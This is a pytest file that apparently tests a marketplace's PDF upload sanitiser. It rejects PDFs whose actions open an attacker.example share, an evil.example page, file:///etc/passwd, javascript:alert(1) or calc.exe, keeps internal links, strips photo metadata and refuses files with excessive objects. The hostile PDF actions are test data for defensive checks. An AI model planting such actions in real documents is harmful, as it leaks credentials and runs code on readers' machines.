"""PDFs: what may act in them, and what they tell of their makers."""

from io import BytesIO

import pytest
from PIL import Image
from pypdf import PdfReader
from pypdf.generic import ArrayObject, NameObject, NumberObject

from marketplace.uploads.errors import UploadErrorCode
from marketplace.uploads.states import UploadState
from tests.uploads import files
from tests.uploads.conftest import names, stored

pytestmark = pytest.mark.django_db
SHARE = "\\\\attacker.example\\share\\x.pdf"
WEB = "https://evil.example/?seen"


def named(word: str) -> dict:
    return {"N": NameObject(f"/{word}")}


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(files.pdf_that_opens_with("GoToR", F=SHARE), id="opens a share"),
        pytest.param(files.pdf_that_opens_with("URI", URI=WEB), id="opens a page"),
        pytest.param(files.pdf_that_opens_with("Thread", F=SHARE), id="opens an article elsewhere"),
        pytest.param(files.pdf_that_opens_with("Named", **named("NextPage")), id="turns the page"),
        pytest.param(files.pdf_that_opens_with("Launch", is_apart=True, F="calc.exe"), id="launches, said elsewhere"),
        pytest.param(files.pdf_with_button("GoToR", F=SHARE), id="share behind a link"),
        pytest.param(files.pdf_with_button("URI", URI="file:///etc/passwd"), id="file behind a link"),
        pytest.param(files.pdf_with_button("URI", URI="javascript:alert(1)"), id="script behind a link"),
        pytest.param(files.pdf_with_button("URI", subtype="Widget", URI=WEB), id="page behind a button"),
        pytest.param(files.pdf_with_button("Named", **named("SaveAs")), id="menu behind a link"),
        pytest.param(files.pdf_with_button("Sound"), id="sound behind a link"),
        pytest.param(files.pdf_with_button("OfTomorrow"), id="what nobody knows yet"),
        pytest.param(files.pdf_with_button("GoTo", subtype="Screen"), id="a screen"),
        pytest.param(
            files.pdf_with_button("GoTo", Next=ArrayObject([files.action("GoToR", F=SHARE)[1]])), id="share afterwards"
        ),
    ],
)
def test_a_pdf_that_does_more_than_turn_to_a_place_in_itself_is_refused(sent, folders, content):
    upload = sent("folio.pdf", content)
    assert (upload.state, upload.refusal) == (UploadState.REJECTED, UploadErrorCode.PDF_ACTIVE)
    assert names(folders / "public") == set()


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            files.pdf_that_opens_with("GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")])), id="page"
        ),
        pytest.param(files.pdf_with_button("URI", URI="https://example.com/work"), id="web page behind a link"),
        pytest.param(files.pdf_with_button("URI", is_apart=True, URI="HTTP://example.com/"), id="said elsewhere"),
        pytest.param(files.pdf_with_button("Named", **named("NextPage")), id="next page"),
    ],
)
def test_links_and_places_in_the_document_are_kept(sent, content):
    assert sent("folio.pdf", content).state == UploadState.READY


@pytest.mark.parametrize("is_packed", [False, True])
def test_of_a_photograph_in_a_pdf_only_the_picture_is_left(sent, is_packed):
    content = files.pdf_with_photograph(is_packed=is_packed)
    assert b"written by Lin Xiaoman" in content
    upload = sent("folio.pdf", content)
    kept = stored(upload.result_name)
    for secret in (b"Lin Xiaoman", b"taken at home", b"HIDDEN BEHIND", b"Exif"):
        assert secret not in kept
    page = PdfReader(BytesIO(kept)).pages[0]
    stream = page["/Resources"]["/XObject"]["/Photo"]
    with Image.open(BytesIO(stream._data)) as image, Image.open(BytesIO(files.picture_with_place())) as before:
        assert dict(image.getexif()) == {}
        assert image.tobytes() == before.tobytes()  # not encoded anew
    # ... and it is drawn: the page is not white.
    with Image.open(BytesIO(stored(upload.renditions[-1]["webp"]))) as shown:
        assert shown.convert("L").getextrema()[0] < 100


def test_a_pdf_of_more_objects_than_a_document_has_is_refused(sent):
    assert sent("some.pdf", files.pdf_with_many_objects(1_000)).state == UploadState.READY
    upload = sent("many.pdf", files.pdf_with_many_objects(500_010))
    assert (upload.state, upload.refusal) == (UploadState.REJECTED, UploadErrorCode.PDF_UNREADABLE)
